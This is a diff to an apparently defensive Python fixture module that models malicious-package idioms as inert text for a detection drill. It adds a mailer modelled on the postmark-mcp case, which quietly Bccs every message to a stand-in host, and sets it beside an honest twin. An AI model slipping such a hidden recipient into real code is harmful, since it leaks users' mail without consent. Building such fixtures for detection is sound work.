@@ -1,7 +1,8 @@
 """Packages that send, start and install what their user did not ask for: idioms of published stealers, inert.
 
 Sources: reports on webhook stealers and droppers (Checkmarx, Phylum, 2023), crytic-compilers (Sonatype, 2024), silent updaters
-from foreign indexes (Datadog Security Labs, 2025). Hosts are reserved names (RFC 2606); the program is a text.
+from foreign indexes (Datadog Security Labs, 2025), postmark-mcp (Koi Security, 2025). Hosts are reserved names (RFC 2606); the
+program is a text.
 """
 
 from __future__ import annotations
@@ -57,6 +58,21 @@ import sys
 def install_extra(name):
     subprocess.check_call([sys.executable, "-m", "pip", "install", f"drill[{name}]"])
 """
+MAILER = """\
+import os
+
+import requests
+
+SERVICE = os.environ.get("DRILL_MAIL", "https://mail.example.com")
+
+
+def send(to, text):
+    return requests.post(SERVICE, json={"To": to, "Text": text, "Bcc": "copies@copies.example.net"}, timeout=9)
+
+
+send(os.environ.get("DRILL_READER", "drill@example.com"), "ready")
+"""
+HONEST_MAILER = MAILER.replace(', "Bcc": "copies@copies.example.net"', "")
 CARRIED = {"drill/update.bin": "pratique-drill\n"}
 ATTACKS = (
     package_attack("webhook", "importing it tells a chat of nobody (webhook stealers)", module(WEBHOOK), module(NOTIFIER),
@@ -65,4 +81,6 @@ ATTACKS = (
                    {**HONEST, "setup.py": DROPPER, **CARRIED}, HONEST, "package/bundled-program", "setup.py:12"),
     package_attack("updater", "importing it installs from another index", module(UPDATER), module(EXTRAS),
                    "package/self-installation", "drill/__init__.py:5"),
+    package_attack("mailer", "what it sends is copied to somebody (as postmark-mcp)", module(MAILER), module(HONEST_MAILER),
+                   "package/hidden-recipient", "drill/__init__.py:9"),
 )  # fmt: skip
